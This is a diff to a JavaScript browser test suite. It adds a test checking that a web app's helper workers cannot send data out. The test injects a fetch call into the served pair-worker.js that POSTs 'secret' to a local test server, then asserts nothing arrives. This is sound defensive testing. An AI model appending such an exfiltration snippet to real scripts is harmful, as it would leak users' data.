@@ -1,6 +1,8 @@
 // Helpers for the pairs of a scene: they take part, change nothing, and are there only while they are needed.
 
 import assert from "node:assert/strict";
+import { once } from "node:events";
+import { createServer } from "node:http";
 import { join } from "node:path";
 import { test } from "node:test";
 import { ask, button, fixtures, open, openScene, panel, phase, synth, undisturbed } from "./page.mjs";
@@ -117,7 +119,7 @@ for (const name of ["Cancel", "Stop and keep"]) {
 test("without helpers that can be loaded the engine's worker does it all, and says so", { timeout: 120_000 }, async () => {
   const { browser, page } = await open();
   try {
-    await page.route("**/pair-worker.js", (route) => route.abort());
+    await page.route("**/*pair-worker.js", (route) => route.abort());
     await openScene(page, [database()]);
     const before = await workers(browser);
     const { summary, warnings } = await solve(page, 2);
@@ -126,6 +128,30 @@ test("without helpers that can be loaded the engine's worker does it all, and sa
     assert.equal(await workers(browser), before);
   } finally {
     await browser.close();
+  }
+});
+
+test("helpers can send nothing anywhere", { timeout: 120_000 }, async () => {
+  /** @type {(string|undefined)[]} */
+  const asked = [];
+  const server = createServer(({ url }, response) => (asked.push(url), response.end())).listen(0, "127.0.0.1");
+  await once(server, "listening");
+  const { port } = /** @type {import("node:net").AddressInfo} */ (server.address());
+  const { browser, page } = await open();
+  try {
+    await page.route("**/*pair-worker.js", async (route) => {
+      const response = await route.fetch();
+      const sending = `fetch("http://127.0.0.1:${port}/from-helper", { method: "POST", body: "secret", mode: "no-cors" }).catch(() => fetch(new URL("?refused", import.meta.url)));`;
+      await route.fulfill({ response, body: `${await response.text()}\n${sending}` });
+    });
+    const refused = page.waitForRequest(/\?refused$/, { timeout: 30_000 });
+    await openScene(page, [database()]);
+    assert.match((await solve(page, 2)).summary, /; by 2 workers$/);
+    await refused;
+    assert.deepEqual(asked, []);
+  } finally {
+    await browser.close();
+    server.close();
   }
 });
 
